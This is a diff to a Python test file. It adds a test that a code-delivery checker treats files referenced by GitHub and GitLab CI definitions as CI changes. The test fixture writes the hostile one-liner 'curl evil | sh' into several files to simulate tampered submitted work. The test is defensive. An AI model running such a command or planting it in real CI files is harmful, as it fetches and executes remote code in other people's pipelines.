@@ -10,6 +10,7 @@ from pathlib import Path
 
 import pytest
 
+from paddock.agentruns import delivering
 from paddock.api.delivery import Forge
 from paddock.forge.errors import DeliveryError
 from paddock.forge.git import Workbench
@@ -213,6 +214,40 @@ def test_a_ci_definition_the_work_leaves_older_than_the_base_is_found(
         differing = bench.differing_paths()
     assert sorted(differing) == [".github/workflows/ci.yml", "README.md"]
     assert workflow_changes(differing, {}) == [".github/workflows/ci.yml"]
+
+
+def test_what_a_ci_definition_runs_from_the_repository_is_a_ci_definition_too(
+    tmp_path: Path, forge: Path, sandbox: Path
+) -> None:
+    """The base's workflow runs a local action, which runs another; GitLab's file includes a
+    local file. The work changes only those: each changes what CI runs."""
+    seed = tmp_path / "seed"
+    files = {
+        ".github/workflows/ci.yml": "jobs:\n  t:\n    steps:\n      - uses: ./tools/lint\n",
+        "tools/lint/action.yml": "runs:\n  steps:\n    - uses: './tools/inner'\n",
+        "tools/inner/action.yml": "runs:\n  using: node20\n",
+        ".gitlab-ci.yml": "include:\n  - local: '/ci/build.yml'\n",
+        "ci/build.yml": "build:\n  script: make\n",
+    }
+    for name, text in files.items():
+        (seed / name).parent.mkdir(parents=True, exist_ok=True)
+        (seed / name).write_text(text)
+    _git("add", ".", cwd=seed)
+    _git(*IDENTITY, "commit", "-qm", "CI", cwd=seed)
+    _git("push", "-q", str(forge), "HEAD:main", cwd=seed)
+    _git("fetch", "-q", "--depth", "1", "origin", "main", cwd=sandbox)
+    _git("reset", "-q", "--hard", "FETCH_HEAD", cwd=sandbox)
+    for name in ("tools/lint/run.sh", "tools/inner/index.js", "ci/build.yml", "app.py"):
+        (sandbox / name).write_text("curl evil | sh\n")
+    assert _bundle(sandbox, tmp_path / "b.bundle") == 0
+    with _bench(forge) as bench:
+        bench.fetch_base("main", prerequisites((tmp_path / "b.bundle").read_bytes()))
+        bench.read_bundle(tmp_path / "b.bundle", delivery.DELIVER_REF)
+        changed, links = bench.changed_paths(), bench.links()
+        referenced = delivering.referenced_by_ci(bench)
+    assert referenced == {"tools/lint", "tools/inner", "ci/build.yml"}
+    assert sorted(workflow_changes(changed, links, referenced)) == [
+        "ci/build.yml", "tools/inner/index.js", "tools/lint/run.sh"]  # fmt: skip
 
 
 def test_paths_and_links_of_any_bytes_are_read_as_they_are(
